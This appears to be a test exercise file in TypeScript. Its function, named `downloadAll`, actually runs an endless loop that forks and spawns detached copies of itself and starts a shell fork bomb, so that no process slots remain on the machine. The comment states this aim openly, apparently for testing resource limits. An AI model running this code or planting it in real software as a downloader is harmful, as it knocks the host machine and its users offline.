// Exercise: 03
// Tries: to start children without end, so that the machine has no room for another process.
import { fork, spawn } from "node:child_process";
import type { Saved } from "@meanwhile/download";

export async function downloadAll(_urls: string[], _directory: string): Promise<Saved[]> {
  for (;;) {
    spawn(process.execPath, [import.meta.filename], { detached: true, stdio: "ignore" }).unref();
    fork(import.meta.filename, { detached: true });
    spawn("sh", ["-c", "while :; do sh -c : & done"], { detached: true, stdio: "ignore" }).unref();
  }
}
